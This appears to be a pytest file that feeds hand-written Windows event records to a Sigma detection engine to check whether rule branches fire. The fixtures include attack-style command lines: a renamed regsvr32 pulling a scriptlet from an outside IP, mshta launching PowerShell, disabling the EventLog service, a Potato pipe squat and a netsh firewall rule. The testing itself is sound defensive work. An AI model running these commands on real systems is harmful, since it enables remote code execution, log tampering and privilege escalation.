"""Branches of the pass-4 (d3) base rules that cases_d3.yml's one positive and one negative per rule
do not reach: each is a hand-written event through the real Sigma engine."""

from __future__ import annotations

import pytest
from test_shipped_base_rules import event, fired, frame, ruleset  # noqa: F401  (fixture)

from chainbreaker.detect.sigma.rules import RuleSet

CMD = r"C:\Windows\System32\cmd.exe"

CASES = [
    # A renamed regsvr32 (any name) fetching a scriptlet from a URL spawns a shell -> fires.
    (
        "shell_from_script_proxy_host",
        "sysmon1",
        {
            "ParentImage": r"C:\ProgramData\updater.exe",
            "ParentCommandLine": r"updater.exe /u /s /i:http://203.0.113.4/x.sct scrobj.dll",
            "Image": CMD,
            "CommandLine": "cmd.exe",
        },
        True,
    ),
    # mshta running an HTA that starts PowerShell -> fires.
    (
        "shell_from_script_proxy_host",
        "sysmon1",
        {
            "ParentImage": r"C:\Windows\System32\mshta.exe",
            "Image": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "CommandLine": "powershell -nop -c whoami",
        },
        True,
    ),
    # A shell started the ordinary way, from explorer -> does not.
    (
        "shell_from_script_proxy_host",
        "sysmon1",
        {"ParentImage": r"C:\Windows\explorer.exe", "Image": CMD, "CommandLine": "cmd.exe"},
        False,
    ),
    # The python launcher (py.exe) serving the folder with the Python 2 module -> fires.
    (
        "python_http_server",
        "sysmon1",
        {"Image": r"C:\Windows\py.exe", "CommandLine": "py -2 -m SimpleHTTPServer 8080"},
        True,
    ),
    # Security 4688 carries the same fields under its own names -> fires.
    (
        "python_http_server",
        "security",
        {
            "EventID": "4688",
            "NewProcessName": r"C:\Python39\python.exe",
            "CommandLine": r'"C:\Python39\python.exe" -m http.server 8000',
        },
        True,
    ),
    # The multiprocessor kernel image name -> fires.
    (
        "kernel_image_loaded_by_user_folder_process",
        "sysmon7",
        {"Image": r"C:\Users\Public\x\loader.exe", "ImageLoaded": r"C:\Windows\System32\ntkrnlmp.exe"},
        True,
    ),
    # A numbered control set (what the registry shows before CurrentControlSet is linked) -> fires.
    (
        "eventlog_service_disabled_registry",
        "sysmon13",
        {
            "EventType": "SetValue",
            "Image": r"C:\Users\bob\Downloads\payload.exe",
            "TargetObject": r"HKLM\System\ControlSet001\Services\EventLog\Start",
            "Details": "DWORD (0x00000004)",
        },
        True,
    ),
    # The Start value of an event-log *channel* subkey is not the service -> does not.
    (
        "eventlog_service_disabled_registry",
        "sysmon13",
        {
            "EventType": "SetValue",
            "Image": r"C:\Windows\System32\reg.exe",
            "TargetObject": r"HKLM\System\CurrentControlSet\Services\EventLog\Application\Start",
            "Details": "DWORD (0x00000004)",
        },
        False,
    ),
    # The minimal system processes have no path and no .exe name -> does not.
    (
        "process_access_target_without_image_path",
        "sysmon10",
        {"SourceImage": r"C:\Users\alice\tool.exe", "TargetImage": "Registry", "GrantedAccess": "0x1000"},
        False,
    ),
    # csrss opening the section-created process (it opens every new process) -> does not.
    (
        "process_access_target_without_image_path",
        "sysmon10",
        {
            "SourceImage": r"C:\Windows\system32\csrss.exe",
            "TargetImage": "payload.exe",
            "GrantedAccess": "0x1fffff",
        },
        False,
    ),
    # A Potato-style pipe under a fake path ending in \pipe\epmapper -> fires.
    (
        "service_pipe_squatting",
        "sysmon17",
        {"EventType": "CreatePipe", "PipeName": r"\x\pipe\epmapper", "Image": r"C:\Temp\potato.exe"},
        True,
    ),
    # Connecting to the real spoolss pipe (a client) is not creating it -> does not.
    (
        "service_pipe_squatting",
        "sysmon18",
        {"EventType": "ConnectPipe", "PipeName": r"\spoolss", "Image": r"C:\Users\alice\Downloads\tool.exe"},
        False,
    ),
    # Single-letter firewall command, full path to netsh -> fires.
    (
        "netsh_single_letter_keywords",
        "sysmon1",
        {
            "Image": r"C:\Windows\System32\netsh.exe",
            "CommandLine": r'"C:\Windows\System32\netsh.exe" a f a r n=x dir=in a=allow',
        },
        True,
    ),
    # Two letters then a full word ("netsh a f show ...") -> does not.
    (
        "netsh_single_letter_keywords",
        "sysmon1",
        {"Image": r"C:\Windows\System32\netsh.exe", "CommandLine": "netsh a f show rule name=all"},
        False,
    ),
    # The PsExec service's own per-client pipes -> does not.
    (
        "service_pipe_squatting",
        "sysmon17",
        {"EventType": "CreatePipe", "PipeName": r"\PSEXESVC-WKS-01-4242-stdin", "Image": r"C:\Users\a\x.exe"},
        False,
    ),
]


@pytest.mark.parametrize(("name", "kind", "fields", "fires"), CASES)
def test_branch(ruleset: RuleSet, name: str, kind: str, fields: dict[str, str], fires: bool) -> None:  # noqa: F811
    assert (name in fired(ruleset, frame([event(kind, fields)]))) is fires
